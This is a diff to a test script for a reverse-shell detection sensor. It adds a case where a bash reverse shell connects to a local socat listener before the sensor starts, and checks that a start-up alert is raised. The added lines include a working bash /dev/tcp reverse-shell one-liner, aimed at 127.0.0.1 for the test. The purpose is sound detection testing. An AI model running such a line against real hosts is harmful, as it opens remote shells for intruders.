@@ -35,12 +35,28 @@ reverse_shell() {
 	SHELL_PID=$!
 }
 
+# A reverse shell that connected before the sensor started: found in /proc at start-up. Its
+# listener keeps the connection open (no command) until the shell is killed at the end.
+port0=$(free_port)
+socat -t 30 TCP-LISTEN:"$port0",bind=127.0.0.1,reuseaddr EXEC:'sleep 30' >/dev/null 2>&1 &
+early_listener=$!
+wait_until 10 listening "$port0"
+bash -c "bash -i >& /dev/tcp/127.0.0.1/$port0 0>&1" 2>/dev/null &
+early=$!
+wait_until 10 bash -c "ss -Htn state established '( dport = :$port0 )' | grep -q ."
+
 out=$SW_TMP/alerts.json
 if ! run_start "$out"; then
 	tap_fail "run attaches" "$(cat "$SW_TMP/run.err")"
 	exit 0
 fi
 tap_ok "run attaches and says ready"
+
+check "a shell running before the sensor is alerted at start-up" wait_until 2 has_alert_for "$out" "$port0"
+a=$(alerts_for "$out" "$port0" | head -1)
+check "start-up alert: stdio-socket on the shell ($(field "$a" process.pid), launcher $early)" \
+	bash -c "[[ '$(field "$a" shellwatch.signals)' == stdio-socket && '$(field "$a" process.parent.pid)' == $early ]]"
+kill "$early" "$early_listener" 2>/dev/null   # the shell then reads EOF and exits
 
 # Benign activity first: pipelines, redirections, a local connection that is not on stdio.
 # (Other tests may run shells at the same time: only alerts carrying this run's marker count.)
